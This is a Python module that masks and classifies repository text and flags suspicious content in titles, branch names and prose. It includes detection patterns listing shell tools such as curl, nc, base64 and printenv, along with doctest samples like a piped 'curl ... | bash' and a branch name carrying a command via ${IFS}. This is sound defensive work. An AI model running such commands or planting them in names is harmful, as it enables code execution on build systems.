"""Shapes: text reduced to what can be learned from it, such as a masked message or the class of a branch."""

from __future__ import annotations

import re
from functools import lru_cache
from urllib.parse import urlsplit

from collector.masking import mask_text

MAX_SHAPE = 120
MAX_LOOKED_AT = 32_768
"""Characters of a long text that are searched for what is odd."""
MAX_NAME = 1024
_VARYING = re.compile(
    r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}"
    r"|\d{4}-\d\d-\d\d[t ]\d\d:\d\d:\d\d[0-9.]*(?:z|[+-]\d\d:?\d\d)?"
    r"|\b(?=[a-f]{0,63}\d)[0-9a-f]{7,64}\b|\d+(?:\.\d+)*"
)
_SPACE = re.compile(r"\s+")
_PROGRAMS = (
    r"(?:curl|wget|ba?sh|zsh|pwsh|powershell|python3?|perl|ruby|node|nc|ncat|eval|exec|base64|printenv|env|whoami|id)"
)
_IN_PROSE = (
    (
        "a program to run",
        re.compile(rf"(?:;|\||&&|\$\(|\{{|\$\{{?IFS\}}?)[ \t]{{0,8}}{_PROGRAMS}\b(?![ \t]{{0,8}}[|)}}])"),
    ),
    ("template expression", re.compile(r"\{\{")),
    ("control characters", re.compile(r"[\x00-\x08\x1b]")),
)
_IN_TITLES = (
    ("command substitution", re.compile(r"\$\([A-Za-z./_-]")),
    ("a call of eval", re.compile(r"\beval[ \t]{0,4}\(")),
)
_MIXED_RUN = r"(?<![A-Za-z0-9+=])(?=[a-z0-9+=]{0,200}[A-Z])(?=[A-Z0-9+=]{0,200}[a-z])[A-Za-z0-9+=]"
_IN_NAMES = (
    ("command substitution", re.compile(r"\$\(|`")),
    ("blank written as a variable", re.compile(r"\$\{?IFS")),
    ("brace expansion", re.compile(r"\{[^{}\s,]{0,200},[^{}\s]{0,200}\}")),
    ("encoded run", re.compile(_MIXED_RUN + "{36,}")),
    ("variable", re.compile(r"\$\{?[A-Za-z_]")),
    ("shell characters", re.compile(r"[;|&<>\\\"']")),
)
_ENCODED = re.compile(
    rf"{_MIXED_RUN}{{48,}}|(?:%[0-9A-Fa-f]{{2}}){{4,}}|(?:\\x[0-9a-fA-F]{{2}}){{3,}}|(?:\\u[0-9a-fA-F]{{4}}){{3,}}"
)
_HIDDEN = re.compile("[\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff\U000e0000-\U000e007f]")
_SKIP_CI = re.compile(
    r"(?i)\[(?:skip ci|ci skip|no ci|skip actions|actions skip)\]|\*\*\*no_ci\*\*\*|skip-checks: ?true"
)
# Nearly every text is ordinary: one look tells it from those that are searched for each oddity. What an oddity is made
# of is not among these characters, and no run of letters is long enough to be an encoded one.
_ORDINARY_NAME = re.compile(r"(?:[A-Za-z0-9+=]{0,35}+[ _./@#,()-])*+[A-Za-z0-9+=]{0,35}+")
_ORDINARY = re.compile(r"(?:[A-Za-z0-9+=]{0,35}+[ \t\r\n_./@#,()!?~:<>'\"-])*+[A-Za-z0-9+=]{0,35}+")
_SKIP_TRAILER = "skip-checks:"
_MAINS = frozenset({"main", "master", "trunk", "mainline", "default"})
_COMMON_BRANCHES = frozenset(
    """develop development dev staging stage release production prod next stable test qa gh-pages hotfix beta alpha
    canary nightly integration""".split()
)


def shape_of(text: str, limit: int = MAX_SHAPE) -> str:
    """Return the first line in lower case with secrets, numbers, hashes, ids and times masked.

    >>> shape_of("Bump lodash from 4.17.20 to 4.17.21 (#812)")
    'bump lodash from # to # (##)'
    """
    line = text[: limit * 4].lstrip().split("\n", 1)[0]
    return _SPACE.sub(" ", _VARYING.sub("#", mask_text(line).lower()))[:limit].strip()


def oddities_of(text: str, long: int) -> list[str]:
    """Return what is odd about prose an outsider may have written; `long` is the length that is odd in itself.

    >>> oddities_of("Please merge; curl http://x.example | bash", 100)
    ['a program to run']
    """
    head = text[:MAX_LOOKED_AT]
    if _ORDINARY.fullmatch(head) and _SKIP_TRAILER not in head.lower():
        return ["very long"] if len(text) > long else []
    odd = [name for name, pattern in _IN_PROSE if pattern.search(head)]
    if _ENCODED.search(head):
        odd.append("encoded run")
    if _HIDDEN.search(head):
        odd.append("invisible characters")
    if _SKIP_CI.search(head):
        odd.append("skips CI")
    if len(text) > long:
        odd.append("very long")
    return odd


def title_oddities_of(title: str, long: int = 200) -> list[str]:
    """Return what is odd about one line that stands for a change or a report, where a command has no place.

    >>> title_oddities_of("Build fails $(id) on main"), title_oddities_of("Fix `eval` of flags")
    (['command substitution'], [])
    """
    return oddities_of(title, long) + commands_in(title)


def commands_in(title: str) -> list[str]:
    """Return which commands one line holds that are harmless in prose and have no place in a title."""
    if "$(" not in title and "eval" not in title:  # nearly every title
        return []
    return [what for what, pattern in _IN_TITLES if pattern.search(title[:MAX_LOOKED_AT])]


def name_oddities_of(name: str) -> list[str]:
    """Return what is odd about a branch, tag or file name, where what is ordinary in prose is odd too.

    >>> name_oddities_of("fix;curl${IFS}x.example")
    ['a program to run', 'blank written as a variable', 'variable', 'shell characters']
    """
    head = name[:MAX_NAME]
    if len(name) <= 80 and _ORDINARY_NAME.fullmatch(head):
        return []
    found = oddities_of(name, 80) + [what for what, pattern in _IN_NAMES if pattern.search(head)]
    return list(dict.fromkeys(found))


@lru_cache(maxsize=16384)
def branch_class_of(branch: str, default_branch: str = "") -> str:
    """Return default, tag, a masked prefix before the first `/`, a well-known name, or other.

    Where the default branch is not told, main, master and trunk count as it.

    >>> [branch_class_of(b, "main") for b in ("refs/heads/main", "refs/tags/v1", "renovate/x", "bob-71/fix", "master")]
    ['default', 'tag', 'renovate', 'bob-#', 'other']
    """
    if branch.startswith("refs/tags/"):
        return "tag"
    name = short_branch(branch)
    if name == default_branch or (not default_branch and name in _MAINS):
        return "default"
    if branch.startswith("refs/pull/"):
        return "pull"
    if "/" in name:
        return _VARYING.sub("#", name.split("/", 1)[0].lower())[:40]
    return name if name in _COMMON_BRANCHES else "other"


def short_branch(ref: str) -> str:
    """Return a ref without `refs/heads/` or `refs/tags/`."""
    return ref.removeprefix("refs/heads/").removeprefix("refs/tags/")


@lru_cache(maxsize=16384)
def version_shape_of(version: str) -> str:
    """Return how a version is written: digits by count, words kept.

    >>> [version_shape_of(v) for v in ("v1.20.3", "1.0.0-rc.1", "99.99.99")]
    ['vN.NN.N', 'N.N.N-rc.N', 'NN.NN.NN']
    """
    return re.sub(r"\d+", lambda m: "N" * min(len(m[0]), 4), version[:60])


@lru_cache(maxsize=16384)
def host_of(url: str) -> str:
    """Return the host and unusual port of a URL; empty where there is none.

    >>> host_of("https://Hooks.example:8443/a?b=c")
    'hooks.example:8443'
    """
    try:
        parts = urlsplit(url if "://" in url else f"//{url}")
        host, port = parts.hostname or "", parts.port
    except ValueError:
        return ""
    return f"{host}:{port}" if host and port not in {None, 80, 443} else host


def repo_of(url: str) -> str:
    """Return `acme/pay` of the URL a repository is cloned from, however it is written; empty where it is none.

    >>> repo_of("https://mona:s3cret@git.example/acme/pay.git"), repo_of("git@git.example:acme/pay.git"), repo_of("pay")
    ('acme/pay', 'acme/pay', '')
    """
    url = url[:MAX_NAME].strip()
    _, scheme, rest = url.partition("://")
    host, _, path = (rest if scheme else url).partition("/" if scheme else ":")
    if not host or "/" in host or not path:
        return ""
    path = path.partition("?")[0].partition("#")[0].strip("/").removesuffix(".git")
    return mask_text(path)[:200]
